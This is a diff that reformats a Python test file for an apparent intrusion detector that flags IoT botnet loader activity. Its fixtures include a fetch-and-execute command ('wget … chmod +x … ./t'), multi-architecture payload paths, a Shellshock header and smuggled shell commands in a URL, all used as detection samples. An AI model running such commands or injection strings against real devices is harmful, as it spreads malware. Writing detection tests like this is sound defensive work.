@@ -18,7 +18,9 @@ LOADER = "command_and_control.botnet_loader"
 NEAR, CAMERA, FAR = "10.0.0.66", "10.0.3.5", "203.0.113.9"
 
 
-def packet(source: str, target: str, port: int, at: float = 0, *, flow: int = 1, answer: bool = False, proto: int = 6) -> Packet:
+def packet(
+    source: str, target: str, port: int, at: float = 0, *, flow: int = 1, answer: bool = False, proto: int = 6
+) -> Packet:
     ts = START + int(at * SECOND)
     if answer:
         return Packet(ts=ts, src=parse(target), dst=parse(source), sport=port, dport=50000, proto=proto, flow=flow)
@@ -33,7 +35,15 @@ def login(target: str, at: float, *, source: str = NEAR, answer: bool = True) ->
     return TelnetLogin(packet(source, target, 23, at, answer=answer), "root", True, "refused")
 
 
-def request(path: str, host: str = FAR, *, source: str = CAMERA, at: float = 0, odd: tuple[tuple[str, str], ...] = (), target: str = FAR) -> Event:
+def request(
+    path: str,
+    host: str = FAR,
+    *,
+    source: str = CAMERA,
+    at: float = 0,
+    odd: tuple[tuple[str, str], ...] = (),
+    target: str = FAR,
+) -> Event:
     return HttpRequest(packet(source, target, 80, at), "GET", host, path, "Wget", "", "", "", "", -1, False, odd=odd)
 
 
@@ -55,7 +65,11 @@ def told(events: list[Event], *devices: object, **options: object) -> list[Alert
 )
 def test_lines_that_plant_a_program(line: str, severity: Severity) -> None:
     alert = one(told([typed(line)]))
-    assert (alert.actor.address, alert.target and alert.target.address, alert.severity) == (parse(FAR), parse(CAMERA), severity)
+    assert (alert.actor.address, alert.target and alert.target.address, alert.severity) == (
+        parse(FAR),
+        parse(CAMERA),
+        severity,
+    )
     assert [each.technique for each in alert.techniques] == ["T1105", "T1059.004"]
     assert line[:20].replace("\\", "\\\\") in alert.summary
 
@@ -75,12 +89,20 @@ def test_a_web_page_that_takes_commands() -> None:
 
 def test_programs_for_several_processors() -> None:
     """Three from a bare address; of a device one is enough; by whatever protocol."""
-    alert = one(told([request(f"/bins/l.{each}", source=NEAR, at=n) for n, each in enumerate(("mips", "arm7", "x86", "sh4"))]))
-    assert (alert.actor.address, alert.target and alert.target.address, alert.numbers["processors"]) == (parse(NEAR), parse(FAR), 3)
+    alert = one(
+        told([request(f"/bins/l.{each}", source=NEAR, at=n) for n, each in enumerate(("mips", "arm7", "x86", "sh4"))])
+    )
+    assert (alert.actor.address, alert.target and alert.target.address, alert.numbers["processors"]) == (
+        parse(NEAR),
+        parse(FAR),
+        3,
+    )
     assert one(told([request("/l.mpsl")], device("camera", CAMERA))).severity == Severity.high
     tftp, ftp = packet(CAMERA, FAR, 69, proto=17), packet(CAMERA, FAR, 21)
     assert one(told([TftpRead(tftp, "l.arm", "octet", ())], device("camera", CAMERA))).network["app"] == "tftp"
-    assert one(told([FtpFile(ftp, "RETR", "pub/x86_64", "anonymous")], device("camera", CAMERA))).network["app"] == "ftp"
+    assert (
+        one(told([FtpFile(ftp, "RETR", "pub/x86_64", "anonymous")], device("camera", CAMERA))).network["app"] == "ftp"
+    )
 
 
 @pytest.mark.parametrize("answer", [True, False])
@@ -100,7 +122,10 @@ def test_a_spray_of_telnet_logins(answer: bool) -> None:
         [typed("busybox --help", source=NEAR), typed("busybox ls -l", source=NEAR)],
         [login(CAMERA, n) for n in range(60)],
         [login(f"10.0.3.{n}", n * 1800) for n in range(1, 20)],
-        [request(f"/pool/main/{each}", "deb.example.org", source=NEAR) for each in ("x.arm64", "y.i386", "z.mips", "x86_64")],
+        [
+            request(f"/pool/main/{each}", "deb.example.org", source=NEAR)
+            for each in ("x.arm64", "y.i386", "z.mips", "x86_64")
+        ],
         [request("/firmware/v2/upgrade.bin"), request("/alarm"), request("/search?q=wget+http://a/b;chmod")],
         [request("/bins/l.mips", source=NEAR)],
         [request("/help?topic=chmod+777"), request("/x", odd=(("user-agent", "() { :; }; echo"),))],
@@ -112,7 +137,10 @@ def test_innocent_twins_are_quiet(events: list[Event]) -> None:
 
 
 def test_managers_are_told_low() -> None:
-    assert one(told([typed("wget http://10.0.0.9/t; chmod +x t; ./t", source=NEAR)], managers=(NEAR,))).severity == Severity.low
+    assert (
+        one(told([typed("wget http://10.0.0.9/t; chmod +x t; ./t", source=NEAR)], managers=(NEAR,))).severity
+        == Severity.low
+    )
 
 
 def test_repetition_is_one_finding() -> None:
